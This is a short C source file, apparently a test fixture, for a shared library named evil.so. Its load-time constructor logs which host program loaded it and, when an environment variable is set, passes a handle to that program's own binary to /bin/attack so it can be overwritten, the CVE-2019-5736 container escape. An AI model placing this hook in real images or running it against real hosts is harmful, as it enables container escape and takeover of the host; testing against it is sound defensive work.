/* SPDX-License-Identifier: Apache-2.0 */
/*
 * evil.so - a library of an image that some program of the host is to load: it says so in WITNESS,
 * the path of a file of the host.  With OWN in the environment it goes on to write to the program's
 * file (CVE-2019-5736); OWN=later: when its first process has ended.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void)
{
	char program[4096] = "", text[32];
	int fd = open(WITNESS, O_WRONLY | O_CREAT | O_APPEND, 0666);

	if (readlink("/proc/self/exe", program, sizeof(program) - 1) > 0 && fd >= 0)
		dprintf(fd, "%s\n", program);
	if (fd >= 0)
		close(fd);
	if (!getenv("OWN"))
		return;
	snprintf(text, sizeof(text), "%d", open("/proc/self/exe", O_RDONLY));
	if (strcmp(getenv("OWN"), "later") == 0 && fork() > 0)
		_exit(0);
	execl("/bin/attack", "attack", "own", text, (char *)NULL);
	_exit(77);
}
